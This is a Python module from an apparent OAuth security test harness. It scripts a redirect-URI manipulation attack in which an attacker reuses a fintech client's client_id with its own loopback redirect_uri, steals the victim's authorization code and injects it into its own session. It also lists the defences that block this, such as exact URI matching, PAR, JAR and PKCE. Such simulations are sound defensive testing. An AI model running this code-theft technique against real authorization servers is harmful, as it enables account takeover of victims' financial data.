"""redirect-uri-manipulation: FinLens's client_id with the attacker's redirect_uri (A1).

attacks.md §3 E. The attacker builds an authorization request with client_id=tpp and
redirect_uri on its own site. A legacy AS matches registered URIs by path prefix and
ignores ports on loopback hosts (RFC 6749 §3.1.2 leaves the comparison open; BCP §4.1
shows why it must be exact), so https://127.0.0.1:<site>/callback passes for FinLens's
https://127.0.0.1:<tpp>/callback. The lured victim consents on a page naming FinLens; the
code lands on the attacker's site; the attacker injects it into its own FinLens session.
"""

from __future__ import annotations

from attacker import fixtures
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.inject import code_lured_to_site, inject_code
from attacker.outcome import PKCE_ALONE

STEAL_PATH = "/callback"   # FinLens's path: the prefix the legacy AS compares


def run(ctx: AttackContext) -> None:
    fx = fixtures.ensure_running(ctx)
    redirect_uri = fx.site + STEAL_PATH
    got = code_lured_to_site(
        ctx, fx, redirect_uri, STEAL_PATH,
        built=f"builds an authorization request for FinLens's client_id with "
              f"redirect_uri={redirect_uri} and mails the victim a link to it",
        missing="no code reached the attacker's site",
        read="reads the victim's code from its own site's log")
    inject_code(ctx, got["code"], got["victim"], iss=got.get("iss"),
                source="its site received", response=got.get("response"))


ATTACK = Attack(
    id="redirect-uri-manipulation", attacker="A1", legs=("own",), victim="live",
    title="Code delivered to the attacker's origin",
    blocked_by=("exact_redirect_uri", "par_required", "jar_required", "pkce_required"),
    premise="Runs the attacker site; knows FinLens's client_id and redirect URI (public); the "
            "victim follows its link and consents on a page that names FinLens.",
    goal="the attacker's FinLens account shows the victim's accounts", run=run,
    refs=("BCP §4.1", "BCP §2.1", "RFC 6749 §10.6", "RFC 6749 §3.1.2"),
    also_blocked_by={
        "code_client_binding":
            "the code was issued for the attacker's redirect_uri and FinLens redeems it with "
            "its own, which RFC 6749 §4.1.3 requires to be identical",
        "tpp_checks_nonce":
            "as in code-injection: the injected code's ID token carries the victim's nonce, "
            "not the attacker session's",
    },
    not_alone={"pkce_required": PKCE_ALONE},
)
